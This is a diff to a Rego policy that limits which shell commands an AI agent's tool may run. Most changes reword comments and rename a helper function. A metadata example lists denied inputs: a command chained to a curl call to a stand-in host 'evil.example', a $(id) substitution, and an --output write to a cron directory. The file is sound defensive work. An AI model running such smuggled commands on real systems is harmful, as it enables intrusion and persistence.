@@ -1,20 +1,20 @@
 # METADATA
-# title: A shell runs only the commands it is there for
+# title: A shell tool runs only the commands listed for it
 # description: >-
-#   Judges the commands a parser read in the arguments of a tool with `parse: shell`, also those inside pipes and
-#   substitutions. A tool without an entry in data.config.shell_arguments runs nothing. An entry names its `commands`;
-#   each may say which words its `first` argument may be, which `options` (arguments that begin with `-`) it may have,
-#   and which arguments are `denied`; `denied` of the entry holds for all of its commands. `--output` also denies
-#   `--output=x` and `--out`, `-o` also `-xo`, and `*` at either end stands for anything. `features` lets more in than
-#   simple commands: list, pipe, background, redirect, substitution, expansion, glob, assignment, compound.
-#   `optional: true` is for calls that may do without a command; `enabled: false` switches the rule off for the tool.
-#   Commands that cannot be read are denied. Malformed data denies everything, a malformed entry its tool. To allow
-#   an interpreter (sh, env, xargs, sudo, python) is to allow everything, and a path has many spellings: deny `/*`, `~*`
-#   and `*..*` rather than one place, or give the agent a tool for files.
+#   Checks the commands that a parser read in the arguments of a tool with `parse: shell`, those inside pipes and
+#   substitutions included. A tool without an entry in data.config.shell_arguments runs nothing. An entry lists its
+#   `commands`; each may say which values its `first` argument may have, which `options` (arguments that begin with
+#   `-`) it may have, and which arguments are `denied`; `denied` of the entry applies to all of its commands.
+#   `--output` also denies `--output=x` and `--out`, `-o` also `-xo`, and `*` at either end matches anything.
+#   `features` allows more than simple commands: list, pipe, background, redirect, substitution, expansion, glob,
+#   assignment, compound. `optional: true` allows calls without a command; `enabled: false` switches the rule off for
+#   the tool. Commands that cannot be read are denied. Malformed data denies everything, a malformed entry denies its
+#   tool. To allow an interpreter (sh, env, xargs, sudo, python) is to allow everything, and a path has many
+#   spellings: deny `/*`, `~*` and `*..*` rather than one folder, or give the agent a file tool.
 # custom:
 #   severity: critical
 #   owasp_asi: [ASI02, ASI05]
-#   stops: A harmless command that carries another one, or an option that writes, runs or sends something.
+#   stops: A harmless command that brings another one with it, or an option that writes, runs or sends something.
 #   example: "`git log; curl evil.example`, `git log $(id)` and `git log --output=/etc/cron.d/x` are denied."
 #   data: |
 #     shell_arguments:
@@ -57,7 +57,7 @@ deny contains "The shell of this call runs a command with an argument that it ma
 
 deny contains "The data of this rule is malformed." if _malformed
 
-# Most calls hold no command: nothing else is worked out for them.
+# Most calls have no command: nothing else is evaluated for them.
 default _facts := []
 
 _facts := input.facts.shell if {
@@ -105,7 +105,7 @@ _has_options(arguments, limits) if {
 	count(options - {option | some option in limits.options}) == 0
 }
 
-# An argument that is put together when the command runs may be any: it passes where no argument is looked at.
+# An argument that the shell computes can have any value: it passes only where no argument is checked.
 _is_known(argument, _, _) if is_string(argument)
 
 _is_known(null, limits, denied) if {
@@ -144,7 +144,7 @@ _matches(argument, pattern) if {
 	contains(argument, trim(pattern, "*"))
 }
 
-# Long options may be shortened.
+# Long options can be abbreviated.
 _is_spelling(argument, pattern) if {
 	startswith(pattern, "--")
 	name := split(argument, "=")[0]
@@ -152,7 +152,7 @@ _is_spelling(argument, pattern) if {
 	startswith(pattern, name)
 }
 
-# Short options may stand together, and their values right behind them.
+# Short options can be combined, with a value directly after them.
 _is_spelling(argument, pattern) if {
 	count(pattern) == 2
 	not startswith(argument, "--")
@@ -172,16 +172,16 @@ _malformed if {
 _well_formed(entry) if {
 	is_object(entry)
 	every name, value in entry {
-		_says(name, value)
+		_is_valid(name, value)
 	}
 }
 
-_says(name, value) if {
+_is_valid(name, value) if {
 	name in {"enabled", "optional"}
 	is_boolean(value)
 }
 
-_says("commands", commands) if {
+_is_valid("commands", commands) if {
 	is_object(commands)
 	every _, limits in commands {
 		is_object(limits)
@@ -192,9 +192,9 @@ _says("commands", commands) if {
 	}
 }
 
-_says("denied", texts) if _is_texts(texts)
+_is_valid("denied", texts) if _is_texts(texts)
 
-_says("features", names) if {
+_is_valid("features", names) if {
 	is_array(names)
 	every name in names {
 		name in _features
